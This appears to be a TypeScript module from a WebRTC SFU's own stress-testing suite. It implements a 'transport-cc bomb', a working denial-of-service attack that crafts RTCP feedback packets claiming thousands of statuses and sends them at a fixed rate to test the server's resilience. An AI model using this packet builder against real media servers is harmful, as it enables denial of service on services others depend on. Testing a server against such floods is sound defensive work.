/**
 * Attack 2 (issue 10, hole 2): the transport-cc bomb. An anonymous WHIP publisher — the
 * SFU's own test peer (`@itda/sfu/testing`: ICE, DTLS and SRTP in-process, so it can
 * protect any RTCP bytes) — sends SRTCP datagrams at a fixed rate, each a compound of
 * transport-cc feedback packets (RTPFB FMT 15,
 * draft-holmer-rmcat-transport-wide-cc-extensions-01 §3.1) that claim the most statuses
 * the SFU accepts, described by run-length chunks (§3.1.3: 8,191 "not received" statuses
 * in 2 bytes), so each 24-byte packet announces 8,192 statuses and carries no receive
 * delta. At the strength: 300 datagrams/s of 40 packets = 960 bytes each.
 */
import { TestPeer } from '@itda/sfu/testing';
import { deleteResource, postSdp } from '../../sfu/itda.ts';
import { paced, sleepUntil } from '../pace.ts';
import type { Attack, AttackContext, AttackOutcome } from './types.ts';

const RUN_LENGTH_MAX = 0x1fff;
const RTPFB = 205;
const FMT_TWCC = 15;

/**
 * One transport-cc packet claiming `statuses` "not received" statuses in run-length chunks.
 * Layout (§3.1): RTCP header, sender SSRC, media SSRC, base sequence number, packet status
 * count, reference time (24 bits) + feedback packet count, chunks, padding to 32 bits.
 */
export function bombPacket(statuses: number, senderSsrc: number, baseSequence: number, fbCount: number): Buffer {
  const chunks = Math.ceil(statuses / RUN_LENGTH_MAX);
  const length = 20 + Math.ceil((chunks * 2) / 4) * 4;
  const b = Buffer.alloc(length);
  b[0] = 0x80 | FMT_TWCC; // V=2, P=0, FMT
  b[1] = RTPFB;
  b.writeUInt16BE(length / 4 - 1, 2); // RFC 3550 §6.4.1: length in 32-bit words minus one
  b.writeUInt32BE(senderSsrc >>> 0, 4);
  b.writeUInt32BE(1, 8); // media source SSRC: unused by transport-cc
  b.writeUInt16BE(baseSequence & 0xffff, 12);
  b.writeUInt16BE(statuses, 14);
  b.writeUIntBE(0, 16, 3); // reference time
  b[19] = fbCount & 0xff;
  let left = statuses;
  for (let i = 0; i < chunks; i++) {
    const run = Math.min(left, RUN_LENGTH_MAX);
    b.writeUInt16BE(run, 20 + 2 * i); // 0 (run length chunk), symbol 00 (not received), run
    left -= run;
  }
  return b;
}

export const twccBomb: Attack = {
  id: 2,
  name: 'transport-cc bomb',
  describe: (s) =>
    `an anonymous WHIP publisher sends ${s.twccDatagramsPerSecond} SRTCP datagrams/s, each ${s.twccPacketsPerDatagram} transport-cc packets claiming ${s.twccStatuses.toLocaleString('en-US')} statuses (run-length chunks)`,
  async run(ctx: AttackContext): Promise<AttackOutcome> {
    const s = ctx.strengths;
    let peer: TestPeer | undefined;
    let location: string | undefined;
    let sent = 0;
    let bytes = 0;
    try {
      peer = await TestPeer.open({ udpPort: ctx.server.rtcUdpPort });
      const offer = peer.publishOffer();
      const posted = await postSdp(`${ctx.server.url}/whip/twcc-bomb`, offer.sdp);
      location = posted.location;
      peer.setRemoteDescription(posted.answer);
      await peer.connect({ timeoutMs: 5000 });
      const ssrc = offer.tracks[0]?.ssrc ?? 1;
      let fb = 0;
      const p = peer;
      sent = await paced(s.twccDatagramsPerSecond, ctx.endsAt, () => {
        const packets: Buffer[] = [];
        for (let i = 0; i < s.twccPacketsPerDatagram; i++) {
          packets.push(bombPacket(s.twccStatuses, ssrc, fb * s.twccStatuses, fb));
          fb++;
        }
        const datagram = p.protectRtcp(Buffer.concat(packets));
        bytes += datagram.length;
        p.sendRaw(datagram);
        return true;
      });
      await sleepUntil(ctx.endsAt);
      await ctx.released;
    } catch (err) {
      const message = err instanceof Error ? err.message : String(err);
      return {
        sent: `${sent} datagrams`,
        contained: undefined,
        verdict: `set-up failed: ${message}`,
        details: { sent },
        problems: [`attack 2: ${message}`],
      };
    } finally {
      if (location !== undefined) await deleteResource(location).catch(() => {});
      await peer?.close({ notify: false });
    }
    return {
      sent: `${sent.toLocaleString('en-US')} SRTCP datagrams, ${(bytes / 1e6).toFixed(2)} MB (${Math.round(bytes / Math.max(1, sent))} B each)`,
      contained: undefined,
      verdict: 'a load: judged by the bystander and the server CPU',
      details: { datagrams: sent, bytes },
      problems: [],
    };
  },
};
